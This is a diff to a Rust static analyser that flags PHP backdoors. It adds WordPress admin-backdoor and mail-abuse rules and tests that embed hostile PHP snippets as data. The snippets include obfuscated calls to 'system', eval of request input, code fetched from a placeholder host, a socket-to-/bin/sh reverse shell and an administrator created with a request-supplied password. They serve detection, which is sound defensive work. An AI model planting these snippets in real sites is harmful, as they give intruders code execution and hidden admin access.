@@ -610,6 +610,12 @@ impl<'t, 'a> An<'t, 'a> {
         (rhs, end, None)
     }
 
+    /// Whether a string literal inside the call at `i` (name, then `(`) passes `f`.
+    fn strings_in_call(&self, i: usize, f: impl Fn(&[u8]) -> bool) -> bool {
+        let close = self.close_of(i + 1).min(self.t.len());
+        self.t[(i + 1).min(close)..close].iter().any(|t| matches!(&t.tok, Tok::Str { value, .. } if f(value)))
+    }
+
     /// The index of the token closing the group opened at `open`.
     fn close_of(&self, open: usize) -> usize {
         let mut depth = 0usize;
@@ -1164,6 +1170,37 @@ impl<'t, 'a> An<'t, 'a> {
                 };
                 return Val { labels: union.labels | DECODED, lit, atoms: 0 };
             }
+            b"wp_insert_user" | b"wp_create_user" | b"wp_update_user" => {
+                // An administrator made with a login or password from the request.
+                if union.labels & ANY_INPUT != 0
+                    && self.strings_in_call(i, |s| s.eq_ignore_ascii_case(b"administrator"))
+                {
+                    self.hit(Why::AdminBackdoor, Danger::Critical, i);
+                }
+                return Val::unknown();
+            }
+            b"add_action" | b"add_filter" if arg(0).lit.as_deref() == Some(b"pre_user_query".as_slice()) => {
+                // A user left out of the admin's list of users.
+                let hides = self.strings_in_call(i, |s| {
+                    let l = lower(s);
+                    memchr::memmem::find(&l, b"user_login").is_some()
+                        && [b"!=".as_slice(), b"<>", b"not in", b"not like"]
+                            .iter()
+                            .any(|op| memchr::memmem::find(&l, op).is_some())
+                });
+                if hides {
+                    self.hit(Why::AdminBackdoor, Danger::High, i);
+                }
+                return Val::unknown();
+            }
+            b"mail" => {
+                // Recipients and headers (or an encoded body) all chosen by the visitor.
+                let free = |v: &Val| v.labels & ANY_INPUT != 0 && v.labels & FIXED_HEAD == 0;
+                if free(&arg(0)) && (free(&arg(3)) || arg(2).labels & (DECODED | BLOB) != 0) {
+                    self.hit(Why::MailFromInput, Danger::High, i);
+                }
+                return Val::unknown();
+            }
             b"exif_read_data" | b"iptcparse" => {
                 // Text hidden in an image's headers.
                 return Val { labels: DECODED | UNKNOWN, ..Val::default() };
@@ -1178,7 +1215,7 @@ impl<'t, 'a> An<'t, 'a> {
             }
             b"assert" => {
                 let a = arg(0);
-                if a.labels & TAINT != 0 && a.labels & OPERATED == 0 {
+                if a.labels & (TAINT | PARAM) != 0 && a.labels & OPERATED == 0 {
                     self.code(&a, i, false);
                 }
                 return Val::unknown();
@@ -1520,6 +1557,60 @@ mod tests {
         let s = "<?php $ch = curl_init('http://x.example/p.txt'); $code = curl_exec($ch); eval('?>'.$code);";
         assert_eq!(sinks(s), [(Why::CodeFromInternet, Danger::Critical)]);
         assert_eq!(sinks("<?php include '/tmp/.x/favicon_3a1.ico';"), [(Why::IncludeOfData, Danger::High)]);
+    }
+
+    #[test]
+    fn data_is_followed_through_functions_closures_properties_and_lists() {
+        let crit =
+            |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
+        crit("<?php run($_POST['t']); function run($c) { return system($c); }", Why::ShellFromInput);
+        crit("<?php function a($x) { b($x); } function b($y) { eval($y); } a($_GET['x']);", Why::CodeFromInput);
+        crit("<?php $r = function ($x) { eval($x); }; $r($_REQUEST['c']);", Why::CodeFromInput);
+        crit("<?php array_map(function ($x) { assert($x); }, $_POST);", Why::CodeFromInput);
+        crit(
+            "<?php class A { function __destruct() { eval($this->d); } } $o = new A; $o->d = $_POST['d'];",
+            Why::CodeFromInput,
+        );
+        crit("<?php list($f, $a) = explode('|', $_COOKIE['z']); $f($a);", Why::DynamicCallFromInput);
+        crit("<?php [$f, $a] = explode('|', $_COOKIE['z']); $f($a);", Why::DynamicCallFromInput);
+        crit("<?php $a = 'b'; $$a = 'system'; $b($_GET['c']);", Why::ShellFromInput);
+        crit(
+            "<?php $k = \"\\x13\\x19\\x13\\x14\\x06\\x0c\" ^ \"\\x60\\x60\\x60\\x60\\x63\\x61\"; $k($_GET['c']);",
+            Why::ShellFromInput,
+        );
+        crit("<?php $f = sprintf('%s%s', 'sys', 'tem'); $f($_GET['c']);", Why::ShellFromInput);
+        crit("<?php $f = strtr('qjqlzk', 'qjlzk', 'sytem'); $f($_GET['c']);", Why::ShellFromInput);
+        crit("<?php include 'data://text/plain;base64,' . $_POST['p'];", Why::CodeFromInput);
+        crit("<?php include 'php://input';", Why::CodeFromInput);
+        crit("<?php $e = exif_read_data('a.jpg'); preg_replace($e['Make'], $e['Model'], '');", Why::EvalOfDecoded);
+        crit(
+            "<?php $s = fsockopen($_GET['h'], 80); proc_open('/bin/sh', [0 => $s, 1 => $s], $p);",
+            Why::ShellFromInput,
+        );
+        crit(
+            "<?php wp_insert_user(['user_login' => 'x', 'user_pass' => $_GET['p'], 'role' => 'administrator']);",
+            Why::AdminBackdoor,
+        );
+        assert_eq!(
+            sinks("<?php include 'zip://' . __DIR__ . '/logo.jpg#x.php';"),
+            [(Why::IncludeOfData, Danger::High)]
+        );
+        assert_eq!(sinks("<?php $o = new SplFileObject($_POST['f'], 'w');"), [(Why::UploadDropper, Danger::High)]);
+        assert_eq!(sinks("<?php mail($_POST['to'], 's', 'b', $_POST['h']);"), [(Why::MailFromInput, Danger::High)]);
+    }
+
+    #[test]
+    fn ordinary_functions_templates_and_mail_are_quiet() {
+        assert!(sinks("<?php function run($c) { return esc_html($c); } run($_POST['t']);").is_empty());
+        assert!(sinks("<?php function t($f) { include $f; } t(__DIR__ . '/tpl.php');").is_empty());
+        assert!(sinks("<?php $this->name = $_POST['n']; echo $this->name;").is_empty());
+        assert!(sinks("<?php mail(get_option('admin_email'), $_POST['subject'], $_POST['message']);").is_empty());
+        assert!(sinks("<?php wp_insert_user(['user_login' => $_POST['u'], 'role' => 'subscriber']);").is_empty());
+        // A template engine compiling to PHP through data: is like eval of a variable (weak).
+        assert_eq!(
+            sinks("<?php return include('data://text/plain,' . urlencode($php));"),
+            [(Why::EvalOfVariable, Danger::Low)]
+        );
     }
 
     #[test]
